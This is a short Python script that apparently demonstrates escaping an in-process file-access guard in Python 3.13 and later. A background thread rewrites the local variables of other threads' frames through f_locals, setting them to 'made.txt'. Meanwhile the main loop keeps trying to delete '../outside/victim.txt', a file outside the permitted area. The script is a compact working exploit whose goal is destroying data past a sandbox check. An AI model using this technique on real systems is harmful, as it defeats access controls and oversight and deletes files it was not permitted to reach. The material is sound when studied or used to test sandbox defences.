# Local variables of foreign frames are written through the frame.
# damage: deleted
# needs: python>=3.13
import os
import sys
import threading
import time

end = time.monotonic() + 1
own = (lambda: 0).__code__.co_filename


def watch():
    while time.monotonic() < end:
        for frame in sys._current_frames().values():
            while frame:
                name = frame.f_code.co_filename
                if name != own and not os.path.exists(name):
                    for key in list(frame.f_locals):
                        frame.f_locals[key] = "made.txt"
                frame = frame.f_back


sys.setswitchinterval(1e-6)
thread = threading.Thread(target=watch)
thread.start()
while thread.is_alive():
    try:
        os.unlink("../outside/victim.txt")
    except FileNotFoundError:
        pass
